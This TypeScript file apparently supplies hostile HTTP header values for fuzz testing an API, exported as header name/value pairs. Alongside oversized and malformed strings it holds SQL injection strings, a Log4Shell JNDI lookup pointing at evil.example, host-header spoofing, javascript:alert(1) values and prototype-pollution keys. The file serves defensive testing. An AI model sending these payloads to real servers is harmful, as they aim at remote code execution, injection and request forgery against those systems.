import { contentTypes } from "./Hostile.ts"

const values: Readonly<Record<string, ReadonlyArray<string>>> = {
  "if-match": ['"v1"', '"v2"', "*", 'W/"v1"', 'W/"v99999999999999999999"', '"v1", "v2"', '"', ",,,", "x".repeat(4_000)],
  "if-none-match": ["*", '"v1"', 'W/"v1", "v2"', '"', "x".repeat(4_000)],
  "if-modified-since": ["Thu, 01 Jan 1970 00:00:00 GMT", "yesterday"],
  prefer: [
    "amounts=string",
    "amounts=number, handling=strict, , =",
    "amounts=string; amounts=number",
    "return=minimal",
    "respond-async, wait=-1",
    "amounts=".repeat(500)
  ],
  "idempotency-key": [
    "fuzz",
    "a",
    "k".repeat(255),
    "k".repeat(256),
    "k".repeat(7_000),
    "\u00e9",
    "\u00ff\u00fe",
    " ",
    "'"
  ],
  "x-organization-id": [
    "0",
    "-1",
    "1",
    "2",
    "1e3",
    "0x1",
    "99999999999999999999",
    "1, 2",
    "1 ",
    "\u00b2",
    "1;drop",
    ""
  ],
  authorization: [
    "",
    "Bearer",
    "Bearer ",
    "bearer a b",
    "Basic x",
    "Basic Og==",
    "Basic YTpi",
    `Basic ${"A".repeat(4_000)}`,
    "Digest username=x",
    "Bearer pat_",
    "Bearer org_\u00e9",
    "Bearer ' or 1=1 --",
    `Bearer ${"a".repeat(7_000)}`
  ],
  accept: ["application/xml", "text/html;q=0", "*/*;q=nan", "application/json;version=99", ",", "a".repeat(4_000)],
  "accept-encoding": ["gzip;q=2, *;q=-1", "identity;q=0", "br"],
  "accept-language": ["x".repeat(3_000), "nl-BE;q=2", "*", "zz-\u00ff"],
  "content-type": contentTypes,
  "content-encoding": ["gzip", "br", "identity, gzip", "x-unknown", "deflate"],
  "content-language": ["x"],
  "x-forwarded-for": ["' or 1=1", "127.0.0.1", "::1, 10.0.0.1", "a, ".repeat(1_000), "[::1]:99999", "999.999.999.999"],
  "x-forwarded-host": ["evil.example", "a/b", "[", "\u00ff"],
  "x-forwarded-proto": ["https", "javascript", "http, https"],
  "x-forwarded-prefix": ["//evil.example"],
  forwarded: ['for="[::1]";host=evil.example;proto=https', "for=\u00ff"],
  host: ["evil.example", "a b", "\u00ff", "localhost:99999"],
  "x-http-method-override": ["DELETE", "TRACE"],
  "x-request-id": ["a".repeat(7_000), "\u00ff", "..", "' or 1=1"],
  range: ["bytes=0-,-1,5-2", "bytes=-0", "bytes=999999999999999999-", "lines=1"],
  origin: ["null", "http://evil.example", "\u00ff", "javascript:alert(1)"],
  "access-control-request-method": ["PATCH", "\u00ff"],
  "sec-fetch-site": ["cross-site"],
  referer: ["http://\u00ff", "javascript:alert(1)"],
  traceparent: [
    "00-00000000000000000000000000000000-0000000000000000-00",
    "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
    "ff-x",
    "0".repeat(3_000)
  ],
  tracestate: ["a=1,".repeat(500)],
  baggage: ["a=%", "%00=%ff"],
  b3: ["1", "0-0-d-0"],
  cookie: ["session=%00; session=x; =;", "__Host-session=%", "a".repeat(6_000), "session=\u00ff"],
  "user-agent": ["${jndi:ldap://evil.example/a}", ""],
  dnt: ["\u00ff"],
  constructor: ["x"],
  ["__proto__"]: ["x"]
}

export const headers: ReadonlyArray<readonly [string, string]> = Object.entries(values).flatMap(([name, texts]) =>
  texts.map((text) => [name, text] as const)
)
